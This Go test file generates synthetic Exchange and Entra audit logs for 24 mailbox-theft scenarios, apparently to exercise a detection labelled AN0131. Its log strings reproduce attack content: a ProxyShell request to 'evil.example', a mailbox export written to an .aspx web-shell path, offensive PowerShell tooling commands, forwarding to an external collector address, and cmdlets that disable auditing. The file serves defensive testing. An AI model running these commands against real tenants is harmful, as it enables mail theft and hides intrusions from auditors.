package world

import (
	"fmt"
	"net/netip"
	"time"

	"redshank/test/world/lines"
)

// The classes of AN0131.
var (
	isReplay    = []string{"session_replay"}
	isScripted  = []string{"scripted_mail_access"}
	isApp       = []string{"application_mail_access"}
	isExport    = []string{"mailbox_export"}
	isTool      = []string{"collection_tool", "scripted_mail_access"}
	isDiversion = []string{"mail_diversion"}
	isByHand    = []string{"session_replay", "mail_diversion", "scripted_mail_access"}
)

// thefts are the kinds of attack that AN0131 is about.
var thefts = []kind{
	{"AADInternals, then the mailbox synchronised", (*World).aadInternals},
	{"EWS without an agent from a hosting network at night", (*World).bareEWS},
	{"password found by stuffing, then a mailbox exported", (*World).stuffedExport},
	{"EWS impersonation with a service account from a server for rent", (*World).impersonation},
	{"full_access_as_app through residential proxies", (*World).slowApp},
	{"guessed at the web form, then EWS Managed API", (*World).guessedEWS},
	{"adversary in the middle, read in a browser", (*World).middle},
	{"stolen cookie, same session and agent", (*World).cookie},
	{"Outlook at a hosting provider", (*World).hostedOutlook},
	{"slow exfiltration over two days from the same country", (*World).slowExfiltration},
	{"phished consent, read 13 hours later", (*World).phishedConsent},
	{"ProxyShell export", (*World).proxyShell},
	{"device code phished, mail over Graph", (*World).deviceCode},
	{"GraphSpy with a current browser's agent", (*World).graphSpy},
	{"ROPC and IMAP in the cloud", (*World).legacyIMAP},
	{"administrator's token, rights granted, mailboxes read", (*World).grantedRights},
	{"auditing turned off, then read", (*World).auditingOff},
	{"forwarding out of the domain", (*World).forwarding},
	{"collection tool in a script block", (*World).scriptBlock},
	{"secret of the backup used elsewhere", (*World).stolenSecret},
	{"IMAP dump on the server", (*World).dumpIMAP},
	{"TeamFiltration: sprayed, then exfiltrated", (*World).teamFiltration},
	{"python over EWS in the cloud", (*World).pythonEWS},
	{"secret added to an application, then mail read", (*World).addedSecret},
}

// steal begins a theft.
func (w *World) steal(name string, classes ...string) *Attack {
	return w.attack("AN0131", name, classes...)
}

// victim draws somebody whom no attack has taken yet.
func (w *World) victim(cloud bool) *person {
	for range 1000 {
		p := one(w, w.org.people)
		if p.cloud == cloud && !p.admin && !w.busy[p] {
			w.busy[p] = true
			return p
		}
	}
	return one(w, w.org.people)
}

// ripe is a time late enough for the detection to know people's habits.
func (w *World) ripe(leave int) time.Time {
	day := w.number(min(4, w.Days-1), max(min(4, w.Days-1), w.Days-1-leave))
	return w.day(day, 23*w.rng.Float64())
}

// signIn is a sign-in by a thief.
func (w *World) signIn(a *Attack, at time.Time, p *person, s lines.SignIn) {
	s.At, s.UPN, s.Object = at, p.upn(), p.object
	a.saw(at, s.Client.IP, p.upn())
	w.log.SignIn(s)
}

// mail is mail that a thief reads.
func (w *World) mail(a *Attack, r lines.Read, p *person) {
	r.User, r.Key = p.upn(), p.object
	a.saw(r.At, r.IP, p.upn())
	w.log.Mail(r)
}

// owaInfo, restInfo are how the audit log names these clients.
const (
	owaInfo  = "Client=OWA;Action=ViaProxy"
	restInfo = "Client=REST;;"
	rpcInfo  = "Client=MSExchangeRPC"
)

func (w *World) aadInternals(name string) {
	a, p, at := w.steal(name, append(isTool, isReplay...)...), w.victim(true), w.ripe(0)
	c := lines.Client{IP: w.hosted(), Agent: "AADInternals"}
	session, token := w.uuid(), w.hex(16)+"AA"
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: c, App: one(w, []lines.App{lines.Office, lines.AzureADPS}), Password: true, MFA: true, Session: session, Token: token})
		for i := range w.number(3, 8) {
			at = at.Add(w.between(time.Minute, 4*time.Minute))
			w.mail(a, lines.Read{At: at, IP: c.IP, Info: rpcInfo, App: lines.Office.ID, Session: session, Token: token, Sync: true, Folder: one(w, []string{"Inbox", "Sent Items", "Archive"}) + fmt.Sprint(i)}, p)
		}
	})
}

func (w *World) bareEWS(name string) {
	a, p := w.steal(name, isScripted...), w.victim(false)
	at := w.day(w.number(min(4, w.Days-1), w.Days-1), 1+3*w.rng.Float64())
	c := lines.Client{IP: w.hosted()}
	w.at(at, func(at time.Time) {
		w.log.Challenge(at, c, lines.EWS, "")
		for range w.number(200, 350) {
			at = at.Add(w.between(700*time.Millisecond, 2500*time.Millisecond))
			a.saw(at, c.IP, p.upn())
			w.log.Basic(at, c, lines.EWS, p.upn(), "", lines.Right)
		}
	})
}

func (w *World) stuffedExport(name string) {
	a, p, at := w.steal(name, isExport...), w.victim(false), w.ripe(0)
	c := lines.Client{IP: w.hosted(), Agent: oldChrome}
	targets := w.pairs(w.number(10, 25), 0.1)
	targets = append(targets, aim(p))
	w.assault(assault{kind: "stuffing before an export", classes: isStuffing, start: at.Add(-20 * time.Minute), way: always(byForm), from: single(c), targets: targets, pause: w.every(8 * time.Second), hits: map[int]lines.Verdict{len(targets) - 1: lines.Right}})
	w.at(at, func(at time.Time) {
		shell := lines.Client{IP: c.IP, Agent: "Microsoft WinRM Client"}
		for range 6 {
			a.saw(at, c.IP, p.upn())
			w.log.Signed(at, shell, lines.PowerShell, p.upn(), "", 4000)
			at = at.Add(w.between(2*time.Second, 20*time.Second))
		}
		w.log.Cmdlet(at, w.org.domain+"/Users/"+p.name, "New-MailboxExportRequest", `-Mailbox "`+p.name+`" -FilePath "\\`+w.log.Servers[0]+`\c$\inetpub\temp\a.pst"`)
	})
}

func (w *World) impersonation(name string) {
	a, at := w.steal(name, append(isApp, isScripted...)...), w.ripe(0)
	account, object := "svc-room@"+w.org.domain, w.uuid()
	w.noisy("application in honest use", w.Start, w.End()).Accounts = []string{account}
	// The account is in honest use every hour, from one machine.
	w.during(w.day(0, 0), w.End(), 3*time.Hour, func(at time.Time) {
		c := lines.Client{IP: w.org.offices[0].address, Agent: "RoomPanel/5.2"}
		w.log.SignIn(lines.SignIn{At: at, Client: c, App: lines.Office, UPN: account, Object: object, Silent: true})
		w.log.Mail(lines.Read{At: at.Add(time.Second), IP: c.IP, User: account, Key: object, Info: "Client=WebServices;RoomPanel/5.2;", Items: 2})
	})
	c := lines.Client{IP: w.hosted(), Agent: one(w, []string{"ExchangeServicesClient/15.00.0913.015", "python-requests/2.31.0"})}
	owners := some(w, w.org.people, w.number(8, 25))
	w.at(at, func(at time.Time) {
		w.log.SignIn(lines.SignIn{At: at, Client: c, App: lines.Office, UPN: account, Object: object, Password: true, Protocol: "ropc"})
		a.saw(at, c.IP, account)
		for _, p := range owners {
			for range w.number(1, 4) {
				at = at.Add(w.between(5*time.Second, 40*time.Second))
				a.saw(at, c.IP, p.upn())
				w.log.Mail(lines.Read{At: at, IP: c.IP, User: account, Key: object, Owner: p.upn(), Info: "Client=WebServices;" + c.Agent + ";", Logon: 1, Items: w.number(10, 60)})
			}
		}
	})
}

func (w *World) slowApp(name string) {
	a, at := w.steal(name, isApp...), w.ripe(2)
	app, principal := lines.App{ID: w.uuid(), Name: "Legacy Archiver"}, w.uuid()
	home := w.nets.cloud.V4(w.rng.Uint64())
	owners := some(w, w.org.people, 15)
	a.Apps = append(a.Apps, app.ID, principal)
	w.noisy("application in honest use", w.Start, w.End()).Addresses = []netip.Addr{home}
	// In honest use the application looks into one mailbox, from one address.
	w.during(w.day(0, 0), w.End(), 6*time.Hour, func(at time.Time) {
		w.log.AppSignIn(at, lines.Client{IP: home}, app, principal, false)
		w.log.Mail(lines.Read{At: at.Add(2 * time.Second), IP: home, User: "ServicePrincipal_" + principal, Key: principal, Owner: "records@" + w.org.domain, Info: "Client=WebServices;Archiver/1.4;", App: app.ID, Logon: 1, Items: 3})
	})
	list := w.proxies(12, append(w.nets.foreign[:3:3], w.nets.consumers...))
	for i, p := range owners {
		w.at(at.Add(time.Duration(i)*95*time.Minute+w.between(0, 20*time.Minute)), func(at time.Time) {
			ip := list[i%len(list)]
			w.log.AppSignIn(at, lines.Client{IP: ip}, app, principal, false)
			for range 3 {
				at = at.Add(w.between(30*time.Second, 4*time.Minute))
				a.saw(at, ip, p.upn())
				w.log.Mail(lines.Read{At: at, IP: ip, User: "ServicePrincipal_" + principal, Key: principal, Owner: p.upn(), Info: "Client=WebServices;Archiver/1.4;", App: app.ID, Logon: 1, Items: w.number(10, 50)})
			}
		})
	}
}

func (w *World) guessedEWS(name string) {
	a, p, at := w.steal(name, isScripted...), w.victim(false), w.ripe(0)
	c := lines.Client{IP: w.hosted(), Agent: w.browser()}
	w.at(at, func(at time.Time) {
		for range 4 {
			w.log.Form(at, c, p.upn(), lines.Wrong)
			a.saw(at, c.IP, p.upn())
			at = at.Add(w.between(20*time.Second, 90*time.Second))
		}
		w.log.Form(at, c, p.upn(), lines.Right)
		a.found(p.upn(), c.IP)
		script := lines.Client{IP: c.IP, Agent: "ExchangeServicesClient/15.00.0913.015"}
		at = at.Add(w.between(2*time.Minute, 10*time.Minute))
		for range w.number(40, 120) {
			a.saw(at, c.IP, p.upn())
			w.log.Basic(at, script, lines.EWS, p.upn(), "", lines.Right)
			at = at.Add(w.between(time.Second, 9*time.Second))
		}
	})
}

// byHand is some reading in a browser or in Outlook, by a thief.
func (w *World) byHand(a *Attack, at time.Time, p *person, ip netip.Addr, session, token string, items int) time.Time {
	for items > 0 {
		n := w.number(2, 9)
		w.mail(a, lines.Read{At: at, IP: ip, Info: owaInfo, App: lines.OutlookWeb.ID, Session: session, Token: token, Items: n, Folder: one(w, []string{"Inbox", "Sent Items", "Invoices"})}, p)
		items -= n
		at = at.Add(w.between(40*time.Second, 4*time.Minute))
	}
	return at
}

// hide makes a rule that hides what the victim must not see.
func (w *World) hide(a *Attack, at time.Time, p *person, ip netip.Addr, session string) {
	a.saw(at, ip, p.upn())
	w.log.Admin(at, ip, p.upn(), p.object, "New-InboxRule", p.upn()+`\.`, session,
		"Name", one(w, []string{".", "..", "a"}), "SubjectOrBodyContainsWords", one(w, []string{"invoice;payment;iban", "phish;hack;spam", "bank"}), "MoveToFolder", one(w, []string{"RSS Subscriptions", "Conversation History", "Archive"}), "MarkAsRead", "True", "StopProcessingRules", "True")
}

func (w *World) middle(name string) {
	a, p, at := w.steal(name, isByHand...), w.victim(true), w.ripe(0)
	relay := w.hosted()
	reader := one(w, w.nets.consumers).V4(w.rng.Uint64())
	if w.chance(0.5) {
		reader = one(w, append(w.nets.foreign, w.nets.vpn...)).V4(w.rng.Uint64())
	}
	session, token, agent := w.uuid(), w.hex(16)+"AA", w.browser()
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: lines.Client{IP: relay, Agent: p.browser}, App: lines.OfficeHome, Password: true, MFA: true, Session: session, Token: token})
		at = at.Add(w.between(4*time.Minute, 40*time.Minute))
		w.signIn(a, at, p, lines.SignIn{Client: lines.Client{IP: reader, Agent: agent}, App: lines.OutlookWeb, Session: session})
		at = w.byHand(a, at.Add(time.Minute), p, reader, session, token, w.number(40, 120))
		w.hide(a, at, p, reader, session)
	})
}

func (w *World) cookie(name string) {
	a, p, at := w.steal(name, isByHand...), w.victim(true), w.ripe(0)
	ip := w.hosted()
	w.at(at, func(at time.Time) {
		session := p.session
		w.signIn(a, at, p, lines.SignIn{Client: lines.Client{IP: ip, Agent: p.browser}, App: lines.OutlookWeb, Session: session})
		w.byHand(a, at.Add(30*time.Second), p, ip, session, "", w.number(60, 150))
	})
}

func (w *World) hostedOutlook(name string) {
	a, p, at := w.steal(name, append(isReplay, isScripted...)...), w.victim(true), w.ripe(0)
	ip, session := w.hosted(), w.uuid()
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: lines.Client{IP: ip, Agent: w.outlookAgent()}, App: lines.Office, Password: true, MFA: w.chance(0.5), Session: session, Device: w.uuid()})
		for _, folder := range []string{"Inbox", "Sent Items", "Drafts", "Archive", "Invoices", "Projects", "Deleted Items", "Contracts"} {
			at = at.Add(w.between(5*time.Second, 90*time.Second))
			w.mail(a, lines.Read{At: at, IP: ip, Info: rpcInfo, App: lines.Office.ID, Session: session, Sync: true, Folder: folder}, p)
		}
	})
}

func (w *World) slowExfiltration(name string) {
	a, p, at := w.steal(name, append(isReplay, append(isScripted, isApp...)...)...), w.victim(true), w.ripe(2)
	c := lines.Client{IP: one(w, append(w.nets.business, w.nets.hosting[0])).V4(w.rng.Uint64()), Agent: one(w, scripts)}
	session, token := w.uuid(), w.hex(16)+"AA"
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: c, App: lines.Office, Session: session, Token: token, Graph: true})
	})
	w.during(at.Add(time.Minute), at.Add(hours(44)), 25*time.Minute, func(at time.Time) {
		w.graph(a, at, p, c, lines.Office.ID, token, "/me/messages?$top=20&$skip=200")
		w.mail(a, lines.Read{At: at, IP: c.IP, Info: restInfo, App: lines.Office.ID, Session: session, Token: token, Items: w.number(8, 20)}, p)
	})
}

// graph is one request of a thief to Microsoft Graph for somebody's mail.
func (w *World) graph(a *Attack, at time.Time, p *person, c lines.Client, app, token, uri string) {
	a.saw(at, c.IP, p.upn())
	w.log.Graph(lines.GraphCall{At: at, Client: c, App: app, User: p.object, Token: token, URI: uri, Size: w.number(20_000, 400_000)})
}

func (w *World) phishedConsent(name string) {
	a, p := w.steal(name, isApp...), w.victim(true)
	at := w.day(w.number(min(4, w.Days-1), max(min(4, w.Days-1), w.Days-2)), 9+5*w.rng.Float64())
	app, principal := lines.App{ID: w.uuid(), Name: one(w, []string{"rnicrosoft", "Mail Upgrade", "Office 365 Helper"})}, w.uuid()
	a.Apps = append(a.Apps, app.ID, principal)
	c := lines.Client{IP: w.hosted(), Agent: one(w, append(scripts, ""))}
	w.at(at, func(at time.Time) {
		a.saw(at, netip.Addr{}, p.upn())
		w.log.Consent(at, p.office.address, p.upn(), p.object, app, principal, " offline_access Contacts.Read User.Read Mail.Read Mail.Send openid profile", false)
	})
	w.at(at.Add(w.between(12*time.Hour, 14*time.Hour)), func(at time.Time) {
		token := w.hex(16) + "AA"
		w.signIn(a, at, p, lines.SignIn{Client: c, App: app, Silent: true, Token: token, Graph: true})
		for i := range w.number(15, 50) {
			at = at.Add(w.between(2*time.Second, 20*time.Second))
			w.graph(a, at, p, c, app.ID, token, fmt.Sprintf("/me/messages?$top=50&$skip=%d", 50*i))
			if i%4 == 0 {
				w.mail(a, lines.Read{At: at, IP: c.IP, Info: restInfo, App: app.ID, Token: token, Items: w.number(30, 60)}, p)
			}
		}
	})
}

func (w *World) proxyShell(name string) {
	a, p, at := w.steal(name, isExport...), w.victim(false), w.ripe(0)
	c := lines.Client{IP: w.hosted(), Agent: one(w, []string{"python-requests/2.31.0", "Mozilla/5.0"})}
	a.Host = w.log.Servers[0] + "." + w.org.domain
	w.at(at, func(at time.Time) {
		for range 12 {
			a.saw(at, c.IP, p.upn())
			w.log.Web(lines.Request{At: at, Client: c, Service: lines.Autodiscover, Stem: "/autodiscover/autodiscover.json", Query: "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3f@evil.example", Status: 200, Out: 1500})
			at = at.Add(w.between(time.Second, 6*time.Second))
		}
		user := w.org.domain + "/Users/" + w.org.admins[0].name
		a.saw(at, c.IP, w.org.admins[0].upn())
		w.log.Cmdlet(at, user, "New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "`+w.org.admins[0].name+`"`)
		w.log.Cmdlet(at.Add(8*time.Second), user, "New-MailboxExportRequest", `-Mailbox "`+p.name+`" -IncludeFolders ("#Drafts#") -ContentFilter "(Subject -eq 'a')" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\x.aspx"`)
		w.log.Cmdlet(at.Add(40*time.Second), user, "Remove-MailboxExportRequest", `-Confirm "False"`)
	})
}

func (w *World) deviceCode(name string) {
	a, p, at := w.steal(name, append(isReplay, isScripted...)...), w.victim(true), w.ripe(0)
	c := lines.Client{IP: w.hosted(), Agent: one(w, append(scripts, frozen[3], frozen[5]))}
	session, token := w.uuid(), w.hex(16)+"AA"
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: c, App: lines.Office, Protocol: "deviceCode", MFA: true, Session: session, Token: token, Graph: true})
		w.graph(a, at.Add(time.Minute), p, c, lines.Office.ID, token, "/search/query")
		for i := range w.number(20, 60) {
			at = at.Add(w.between(2*time.Second, 12*time.Second))
			w.graph(a, at, p, c, lines.Office.ID, token, "/me/messages/"+w.hex(16)+w.hex(16))
			if i%5 == 0 {
				w.mail(a, lines.Read{At: at, IP: c.IP, Info: restInfo, App: lines.Office.ID, Session: session, Token: token, Items: w.number(5, 15)}, p)
			}
		}
	})
}

func (w *World) graphSpy(name string) {
	a, p, at := w.steal(name, append(isReplay, isScripted...)...), w.victim(true), w.ripe(0)
	c := lines.Client{IP: one(w, append(w.nets.vpn, w.nets.hosting...)).V4(w.rng.Uint64()), Agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36 Edg/146.0.0.0"}
	session, token := w.uuid(), w.hex(16)+"AA"
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: c, App: lines.Office, Protocol: "deviceCode", MFA: true, Session: session, Token: token, Graph: true})
		at = at.Add(w.between(3*time.Minute, 30*time.Minute))
		for i := range w.number(15, 40) {
			at = at.Add(w.between(10*time.Second, 2*time.Minute))
			w.graph(a, at, p, c, lines.Office.ID, token, "/me/mailFolders/inbox/messages/"+w.hex(16))
			if i%4 == 0 {
				w.mail(a, lines.Read{At: at, IP: c.IP, Info: restInfo, App: lines.Office.ID, Session: session, Token: token, Items: w.number(4, 12)}, p)
			}
		}
	})
}

func (w *World) legacyIMAP(name string) {
	a, p, at := w.steal(name, append(isScripted, isReplay...)...), w.victim(true), w.ripe(0)
	c := lines.Client{IP: one(w, append(w.nets.hosting, w.nets.foreign...)).V4(w.rng.Uint64()), Agent: one(w, []string{"BAV2ROPC", "CBAinPROD"})}
	session := w.uuid()
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: c, App: lines.ExchangeIMAP, Password: true, Protocol: "ropc", Session: session})
		for range w.number(6, 20) {
			at = at.Add(w.between(20*time.Second, 2*time.Minute))
			w.mail(a, lines.Read{At: at, IP: c.IP, Info: "Client=POP3/IMAP4;Protocol=IMAP4", Session: session, Items: w.number(20, 100), Folder: one(w, []string{"Inbox", "Sent Items"})}, p)
		}
	})
}

func (w *World) grantedRights(name string) {
	a, at := w.steal(name, append(isScripted, append(isReplay, isApp...)...)...), w.ripe(0)
	admin := w.org.admins[3]
	c := lines.Client{IP: w.hosted(), Agent: one(w, []string{"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.1", "python-requests/2.32.3"})}
	session := w.uuid()
	owners := some(w, w.org.people, 6)
	w.at(at, func(at time.Time) {
		w.signIn(a, at, admin, lines.SignIn{Client: c, App: lines.ExchangePS, Session: session})
		for _, p := range owners {
			at = at.Add(w.between(10*time.Second, time.Minute))
			w.log.Admin(at, c.IP, admin.upn(), admin.object, "Add-MailboxPermission", p.upn(), session, "Identity", p.upn(), "User", admin.upn(), "AccessRights", "FullAccess", "AutoMapping", "False")
		}
		for _, p := range owners {
			for range 4 {
				at = at.Add(w.between(20*time.Second, 2*time.Minute))
				w.mail(a, lines.Read{At: at, IP: c.IP, Owner: p.upn(), Info: "Client=WebServices;ExchangeServicesClient/15.00.0913.015;", Session: session, Logon: 2, Items: w.number(20, 90)}, admin)
				a.saw(at, c.IP, p.upn())
			}
		}
	})
}

func (w *World) auditingOff(name string) {
	a, at, p := w.steal(name, append(isReplay, append(isScripted, isDiversion...)...)...), w.ripe(0), w.victim(true)
	admin := w.org.admins[4]
	ip, session := one(w, append(w.nets.hosting, w.nets.vpn...)).V4(w.rng.Uint64()), w.uuid()
	w.at(at, func(at time.Time) {
		w.signIn(a, at, admin, lines.SignIn{Client: lines.Client{IP: ip, Agent: w.browser()}, App: lines.OutlookWeb, Password: true, MFA: true, Session: session})
		at = at.Add(w.between(time.Minute, 9*time.Minute))
		switch w.rng.IntN(3) {
		case 0:
			w.log.Admin(at, ip, admin.upn(), admin.object, "Set-MailboxAuditBypassAssociation", p.upn(), session, "Identity", admin.upn(), "AuditBypassEnabled", "True")
		case 1:
			w.log.Admin(at, ip, admin.upn(), admin.object, "Set-AdminAuditLogConfig", "Admin Audit Log Settings", session, "UnifiedAuditLogIngestionEnabled", "False")
		default:
			w.log.Admin(at, ip, admin.upn(), admin.object, "Set-OrganizationConfig", w.org.domain, session, "AuditDisabled", "True")
		}
		for range 8 {
			at = at.Add(w.between(30*time.Second, 3*time.Minute))
			w.mail(a, lines.Read{At: at, IP: ip, Owner: p.upn(), Info: owaInfo, App: lines.OutlookWeb.ID, Session: session, Logon: 2, Items: w.number(5, 15)}, admin)
			a.saw(at, ip, p.upn())
		}
	})
}

func (w *World) forwarding(name string) {
	a, p, at := w.steal(name, isDiversion...), w.victim(true), w.ripe(0)
	ip, session := one(w, append(w.nets.hosting, w.nets.vpn...)).V4(w.rng.Uint64()), w.uuid()
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: lines.Client{IP: ip, Agent: w.browser()}, App: lines.OutlookWeb, Password: true, Session: session})
		at = w.byHand(a, at.Add(time.Minute), p, ip, session, "", w.number(5, 20))
		a.saw(at, ip, p.upn())
		if w.chance(0.5) {
			w.log.Admin(at, ip, p.upn(), p.object, "New-InboxRule", p.upn()+`\Copy`, session, "Name", "Copy", "ForwardTo", "collector77@mailbox.invalid", "StopProcessingRules", "False")
		} else {
			w.log.Admin(at, ip, p.upn(), p.object, "Set-Mailbox", p.upn(), session, "Identity", p.upn(), "ForwardingSmtpAddress", "smtp:collector77@mailbox.invalid", "DeliverToMailboxAndForward", "True")
		}
	})
}

func (w *World) scriptBlock(name string) {
	a, p, at := w.steal(name, "collection_tool"), w.victim(false), w.ripe(0)
	a.Host = "WS" + w.hex(4) + "." + w.org.domain
	user := w.org.netbios + `\` + p.name
	w.at(at, func(at time.Time) {
		a.saw(at, netip.Addr{}, p.upn())
		w.log.ScriptBlock(at, a.Host, user, one(w, []string{
			"Import-Module .\\AADInternals.psd1; $t = Get-AADIntAccessTokenForEXO; Open-AADIntOWA -AccessToken $t",
			"Invoke-GlobalMailSearch -ImpersonationAccount " + p.name + " -ExchHostname mail." + w.org.domain + " -OutputCsv all.csv",
			"Invoke-RefreshToOutlookToken -domain " + w.org.domain + "; Invoke-DumpOWAMailboxViaMSGraphApi -AccessToken $MSGraphToken -mailFolder AllItems",
			"Get-GraphTokens; Invoke-SearchMailbox -Tokens $tokens -SearchTerm \"password\" -MessageCount 40",
		}))
		w.log.Query(at.Add(3*time.Second), a.Host, user, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, one(w, []string{"outlook.office365.com", "graph.microsoft.com"}))
	})
}

func (w *World) stolenSecret(name string) {
	a, at := w.steal(name, isApp...), w.ripe(1)
	app, principal := lines.App{ID: w.uuid(), Name: "Journal Keeper"}, w.uuid()
	a.Apps = append(a.Apps, app.ID, principal)
	home := w.nets.cloud.V4(w.rng.Uint64())
	owners := some(w, w.org.people, 60)
	w.noisy("application in honest use", w.Start, w.End()).Addresses = []netip.Addr{home}
	read := func(at time.Time, c lines.Client, p *person) {
		w.log.Mail(lines.Read{At: at, IP: c.IP, User: "ServicePrincipal_" + principal, Key: principal, Owner: p.upn(), Info: restInfo, App: app.ID, Logon: 1, Items: w.number(5, 40)})
	}
	for day := range w.Days {
		w.at(w.day(day, 3), func(at time.Time) {
			w.log.AppSignIn(at, lines.Client{IP: home}, app, principal, true)
			for _, p := range owners {
				at = at.Add(5 * time.Second)
				read(at, lines.Client{IP: home}, p)
			}
		})
	}
	thief := lines.Client{IP: w.hosted(), Agent: one(w, scripts)}
	w.at(at, func(at time.Time) {
		w.log.AppSignIn(at, thief, app, principal, true)
		for _, p := range some(w, w.org.people, w.number(10, 30)) {
			for range 3 {
				at = at.Add(w.between(3*time.Second, 30*time.Second))
				a.saw(at, thief.IP, p.upn())
				read(at, thief, p)
			}
		}
	})
}

func (w *World) dumpIMAP(name string) {
	a, p, at := w.steal(name, append(isScripted, isReplay...)...), w.victim(false), w.ripe(0)
	c := lines.Client{IP: one(w, append(w.nets.hosting, w.nets.foreign...)).V4(w.rng.Uint64())}
	w.at(at, func(at time.Time) {
		for range 5 {
			a.saw(at, c.IP, p.upn())
			w.log.IMAP(at, c, p.upn(), lines.Right, w.number(80, 200))
			at = at.Add(w.between(2*time.Minute, 6*time.Minute))
		}
	})
}

func (w *World) teamFiltration(name string) {
	a, p, at := w.steal(name, append(isScripted, isReplay...)...), w.victim(true), w.ripe(0)
	list := w.proxies(30, w.nets.hosting)
	targets := append(w.rounds(w.number(60, 90), 1), aim(p))
	w.assault(assault{kind: "TeamFiltration's spraying", classes: isEither, start: at.Add(-3 * time.Hour), way: always(byToken(lines.Teams)), from: clients(list, teamsAgent), targets: targets, pause: w.spread(150*time.Minute, len(targets)), hits: map[int]lines.Verdict{len(targets) - 1: lines.Right}})
	c, session, token := lines.Client{IP: list[0], Agent: teamsAgent}, w.uuid(), w.hex(16)+"AA"
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: c, App: lines.Teams, Password: true, Protocol: "ropc", Session: session, Token: token})
		for range w.number(10, 30) {
			at = at.Add(w.between(3*time.Second, 40*time.Second))
			w.mail(a, lines.Read{At: at, IP: c.IP, Info: restInfo, App: lines.Teams.ID, Session: session, Token: token, Items: w.number(20, 90)}, p)
		}
	})
}

func (w *World) pythonEWS(name string) {
	a, p, at := w.steal(name, isScripted...), w.victim(true), w.ripe(0)
	c := lines.Client{IP: w.hosted(), Agent: one(w, []string{"exchangelib/5.4.0 (python-requests/2.31.0)", "python-requests/2.31.0", "ExchangeServicesClient/15.00.0913.015"})}
	session, token := w.uuid(), w.hex(16)+"AA"
	w.at(at, func(at time.Time) {
		w.signIn(a, at, p, lines.SignIn{Client: c, App: lines.Office, Silent: true, Session: session, Token: token})
		for range w.number(10, 30) {
			at = at.Add(w.between(5*time.Second, time.Minute))
			w.mail(a, lines.Read{At: at, IP: c.IP, Info: "Client=WebServices;" + c.Agent + ";", App: lines.Office.ID, Session: session, Token: token, Items: w.number(10, 60)}, p)
		}
	})
}

func (w *World) addedSecret(name string) {
	a, at := w.steal(name, isApp...), w.ripe(1)
	admin := one(w, w.org.admins)
	app, principal := lines.App{ID: w.uuid(), Name: "Intranet Portal"}, w.uuid()
	a.Apps = append(a.Apps, app.ID, principal)
	thief := lines.Client{IP: w.hosted(), Agent: one(w, scripts)}
	w.at(at, func(at time.Time) {
		a.saw(at, thief.IP, admin.upn())
		w.log.SignIn(lines.SignIn{At: at, Client: thief, App: lines.GraphPS, UPN: admin.upn(), Object: admin.object, Session: w.uuid(), Graph: true})
		w.log.Directory(at.Add(2*time.Minute), thief.IP, admin.upn(), admin.object, "Update application – Certificates and secrets management ", app, principal, "KeyDescription", `["[KeyIdentifier=`+w.uuid()+`,KeyType=Password,KeyUsage=Verify,DisplayName=x]"]`)
		w.log.Directory(at.Add(3*time.Minute), thief.IP, admin.upn(), admin.object, "Add app role assignment to service principal.", app, principal, "AppRole.Value", "Mail.Read")
		at = at.Add(w.between(10*time.Minute, 50*time.Minute))
		w.log.AppSignIn(at, thief, app, principal, true)
		for _, p := range some(w, w.org.people, w.number(8, 20)) {
			at = at.Add(w.between(3*time.Second, 30*time.Second))
			a.saw(at, thief.IP, p.upn())
			w.log.Graph(lines.GraphCall{At: at, Client: thief, App: app.ID, Principal: principal, URI: "/users/" + p.object + "/messages?$top=100", Size: 300_000})
			w.log.Mail(lines.Read{At: at, IP: thief.IP, User: "ServicePrincipal_" + principal, Key: principal, Owner: p.upn(), Info: restInfo, App: app.ID, Logon: 1, Items: w.number(20, 100)})
		}
	})
}
